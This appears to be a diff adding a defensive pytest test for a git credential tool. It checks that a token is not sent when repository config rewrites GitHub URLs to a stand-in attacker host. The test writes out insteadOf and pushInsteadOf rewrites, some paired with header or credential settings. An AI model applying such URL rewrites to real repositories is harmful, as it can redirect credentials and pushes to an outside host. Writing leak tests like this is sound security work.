@@ -104,6 +104,25 @@ def test_no_redirect_carries_a_token_along(street: Street, survived: Survived) -
     survived("a redirect to another host")
 
 
+@pytest.mark.guarantee("host")
+def test_a_url_that_is_rewritten_is_judged_by_where_it_leads(street: Street) -> None:
+    """A repository's config can rewrite URLs and add headers; the token is no part of either."""
+    street.git("clone", "https://github.com/acme/app", "app")
+    rewrite = f"url.https://{EVIL}/"
+    for config in (
+        [f"{rewrite}.insteadOf=https://github.com/"],
+        [f"{rewrite}.pushInsteadOf=https://github.com/"],
+        [f"{rewrite}.insteadOf=https://github.com/", "http.extraHeader=Authorization: x"],
+        [f"{rewrite}.insteadOf=https://github.com/", "credential.useHttpPath=false"],
+        [f"{rewrite}.insteadOf=https://github.com/", "credential.username=x-access-token"],
+    ):
+        options = [word for one in config for word in ("-c", one)]
+        street.git("-C", "app", *options, "fetch")
+        street.git("-C", "app", *options, "push", "origin", "HEAD:refs/heads/x")
+    assert street.leaked() == []
+    assert {one.host for one in street.evil.seen} == {f"{EVIL}:443"}
+
+
 def test_upper_case_and_the_default_port_are_github(street: Street) -> None:
     """The harness sees what is carried: here a token is, to GitHub alone."""
     before = street.workspace.github.stats()["git_requests"]
